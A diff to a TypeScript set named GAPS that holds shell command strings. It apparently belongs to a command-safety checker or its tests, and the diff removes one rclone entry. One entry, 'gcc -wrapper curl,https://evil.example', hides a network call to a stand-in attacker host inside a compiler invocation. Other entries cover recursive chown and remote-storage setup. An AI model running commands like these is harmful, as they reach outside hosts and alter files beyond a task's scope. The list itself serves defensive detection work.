@@ -6,7 +6,6 @@ export const GAPS: ReadonlySet<string> = new Set([
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
   "rclone ls /tmp/data",
-  "rclone copy ./a ./b",
   "chown -R nobody /home/bob",
   "ln -s /etc/sv/app /var/service/",
   "rclone config create remote drive",
